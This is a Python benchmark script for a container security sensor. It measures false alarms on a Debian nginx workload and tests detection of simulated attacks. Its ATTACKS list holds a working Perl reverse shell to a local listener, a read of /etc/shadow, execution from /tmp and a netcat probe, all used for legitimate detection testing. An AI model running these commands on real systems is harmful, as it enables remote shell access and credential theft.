"""False alarms and detection on a real Debian image at its natural pace (issue 20).

The image scripts/host-setup builds from real packages (cgsentry/debian-nginx: nginx-light,
logrotate, netcat-openbsd) runs nginx's master and workers with health checks, reloads, logrotate
with Debian's stock pre/postrotate shells and a container restart, under the real sensor daemon:
``--learn-s`` of learning (an operator then sets the image to alert), ``--alert-s`` of the same
routine in alert mode (a restart halfway), then each attack. Repeated ``--runs`` times; writes
bench/results/debian_workload.json: false alarms per run (every alert-mode finding before the
attacks) and, per attack, how often its rule found it and at which priority. The kernel test
tests/kernel/test_debian_workload.py runs the same workload on a compressed schedule.

    flock /tmp/cgsentry-kernel.lock python -m bench.debian_workload [--learn-s 240 --alert-s 600 --runs 3]
"""

from __future__ import annotations

import argparse
import json
import subprocess
import sys
import tempfile
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Callable

IMAGE = "cgsentry/debian-nginx:latest"
RESULTS = Path(__file__).resolve().parent / "results"
PRIORITIES = ["EMERGENCY", "ALERT", "CRITICAL", "ERROR", "WARNING", "NOTICE", "INFORMATIONAL", "DEBUG"]


def workload(health_s: float = 0.5, reload_every: int = 8, rotate_every: int = 16) -> str:
    """The container's command: a health check every ``health_s``, ``nginx -s reload`` every
    ``reload_every``-th and a forced rotation every ``rotate_every``-th; it prints "reloaded" and
    "rotated" so a caller can count them in the container's log."""
    return rf"""
nginx
i=0
while true; do
  perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new("127.0.0.1:80") or exit 1;
    print $s "GET / HTTP/1.0\r\n\r\n"; 1 while <$s>' || echo "health check failed"
  i=$((i + 1))
  if [ $((i % {reload_every})) -eq 0 ]; then nginx -s reload; echo reloaded; fi
  if [ $((i % {rotate_every})) -eq 0 ]; then logrotate -f /etc/logrotate.d/nginx; echo rotated; fi
  sleep {health_s}
done
"""


PERL_REVERSE_SHELL = ('use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); '
                      'connect(S, sockaddr_in(4444, inet_aton("127.0.0.1"))) or die; '
                      'open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S"); exec("/bin/sh -i");')
Step = tuple[tuple[str, ...], dict[str, Any]]
# (label, the rule that must find it (None: any finding), the docker exec steps, expected priority)
ATTACKS: list[tuple[str, str | None, list[Step], str]] = [
    ("operator session", None, [(("sh",), {"stdin": "exit\n"})], "NOTICE"),
    ("reverse shell", "Reverse Shell in Container",
     [(("sh", "-c", "sleep 20 | nc -l 127.0.0.1 4444 >/dev/null"), {"detach": True}), (("sleep", "0.5"), {}),
      (("perl", "-e", PERL_REVERSE_SHELL), {"detach": True})], "CRITICAL"),
    ("shadow read", "Read Sensitive File in Container", [(("cat", "/etc/shadow"), {})], "ERROR"),
    ("binary from /tmp", "Drift Executable Run From Temporary Directory",
     [(("sh", "-c", "cp /bin/ls /tmp/x && /tmp/x / >/dev/null"), {})], "ERROR"),
    ("netcat", "Network Tool Launched in Container", [(("nc", "-z", "127.0.0.1", "9"), {})], "WARNING"),
]


def exec_in(container_id: str, *argv: str, stdin: str | None = None, detach: bool = False) -> None:
    cmd = ["docker", "exec", *(["-d"] if detach else []), *(["-i"] if stdin is not None else []), container_id, *argv]
    subprocess.run(cmd, input=stdin, capture_output=True, text=True, timeout=30)


def findings(out: Path, name: str, mode: str) -> list[dict[str, Any]]:
    """The daemon's ``--print-findings`` lines about container ``name`` found in ``mode``."""
    lines = [json.loads(line) for line in out.read_text().splitlines() if line.startswith("{")]
    return [f for f in lines if f.get("mode") == mode and name in f["output"]]


def run_attacks(out: Path, container_id: str, name: str,
                wait: Callable[[Callable[[], bool], float], bool]) -> dict[str, dict[str, Any]]:
    """Each attack in turn: whether its rule found it (``wait`` polls up to a timeout, True if met),
    the highest priority among those findings and the seconds from the last step to the first."""
    result: dict[str, dict[str, Any]] = {}
    for label, rule, steps, expected in ATTACKS:
        before = len(findings(out, name, "alert"))
        for argv, kw in steps:
            exec_in(container_id, *argv, **kw)
        t0 = time.monotonic()

        def new(rule: str | None = rule, before: int = before) -> list[dict[str, Any]]:
            return [f for f in findings(out, name, "alert")[before:] if rule is None or f["rule"] == rule]

        found = wait(lambda: bool(new()), 20.0)
        seen_s = round(time.monotonic() - t0, 2) if found else None
        time.sleep(1)  # the rest of its findings (the rule's and the model's)
        hits = [f["priority"] for f in new()]
        result[label] = {"found": found, "priority": min(hits, key=PRIORITIES.index) if hits else None,
                         "expected": expected, "seen_after_s": seen_s}
    return result


def _wait(pred: Callable[[], bool], timeout_s: float) -> bool:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if pred():
            return True
        time.sleep(0.2)
    return False


def _counts(container_id: str) -> tuple[int, int]:
    logs = subprocess.run(["docker", "logs", container_id], capture_output=True, text=True).stdout
    return logs.count("reloaded"), logs.count("rotated")


def one_run(args: argparse.Namespace, work: Path) -> dict[str, Any]:
    state = work / "state"
    out = work / "daemon.out"
    name = f"cgsentry-bench-debian-{int(time.time())}"
    with out.open("w") as sink:
        daemon = subprocess.Popen([sys.executable, "-m", "sensor", "run", "--state-dir", str(state), "--print-findings",
                                   "--learn-s", "100000", "--window-s", str(args.window_s)],
                                  stdout=sink, stderr=subprocess.STDOUT, text=True)
        try:
            if not _wait(lambda: "cgsentry sensor running" in out.read_text() or daemon.poll() is not None, 120):
                raise SystemExit("bench: the sensor did not start")
            cid = subprocess.run(["docker", "run", "-d", "--network", "none", "--name", name, IMAGE, "/bin/sh", "-c",
                                  workload(args.health_s, args.reload_every, args.rotate_every)],
                                 check=True, capture_output=True, text=True).stdout.strip()
            image_id = subprocess.run(["docker", "inspect", "-f", "{{.Image}}", cid], capture_output=True,
                                      text=True, check=True).stdout.strip()
            try:
                return _phases(args, out, state, cid, name, image_id)
            finally:
                subprocess.run(["docker", "rm", "-f", cid], capture_output=True)
        finally:
            daemon.terminate()
            daemon.wait(timeout=60)


def _phases(args: argparse.Namespace, out: Path, state: Path, cid: str, name: str, image_id: str) -> dict[str, Any]:
    time.sleep(args.learn_s / 2)
    subprocess.run(["docker", "restart", "-t", "1", cid], capture_output=True, check=True)
    time.sleep(args.learn_s / 2)
    learned_findings = len(findings(out, name, "learn"))
    promote = [sys.executable, "-m", "sensor", "model", "--store", str(state / "models"), "mode", image_id, "alert"]
    if not _wait(lambda: subprocess.run(promote, capture_output=True).returncode == 0, 60):
        raise SystemExit("bench: could not set the image to alert")
    time.sleep(3)
    start = _counts(cid)
    time.sleep(args.alert_s / 2)
    subprocess.run(["docker", "restart", "-t", "1", cid], capture_output=True, check=True)
    time.sleep(args.alert_s / 2)
    end = _counts(cid)
    false_alarms = findings(out, name, "alert")
    return {"learning_findings": learned_findings, "alert_reloads": end[0] - start[0],
            "alert_rotations": end[1] - start[1], "false_alarms": len(false_alarms),
            "false_alarm_rules": sorted({f["rule"] for f in false_alarms}),
            "attacks": run_attacks(out, cid, name, _wait)}


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--learn-s", type=float, default=240.0)
    p.add_argument("--alert-s", type=float, default=600.0)
    p.add_argument("--runs", type=int, default=3)
    p.add_argument("--health-s", type=float, default=2.0, help="seconds between health checks")
    p.add_argument("--reload-every", type=int, default=30, help="a reload every N health checks")
    p.add_argument("--rotate-every", type=int, default=60, help="a rotation every N health checks")
    p.add_argument("--window-s", type=float, default=10.0)
    p.add_argument("--name", default="debian_workload")
    args = p.parse_args(argv)
    runs = []
    for _ in range(args.runs):
        with tempfile.TemporaryDirectory(prefix="cgsentry-bench-") as tmp:
            runs.append(one_run(args, Path(tmp)))
    result = {"date": datetime.now(UTC).date().isoformat(), "config": vars(args), "runs": runs,
              "false_alarms": [r["false_alarms"] for r in runs],
              "detected": {label: sum(r["attacks"][label]["found"] for r in runs) for label, *_ in ATTACKS}}
    RESULTS.mkdir(exist_ok=True)
    (RESULTS / f"{args.name}.json").write_text(json.dumps(result, indent=2) + "\n")
    print(json.dumps({k: result[k] for k in ("false_alarms", "detected")}))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
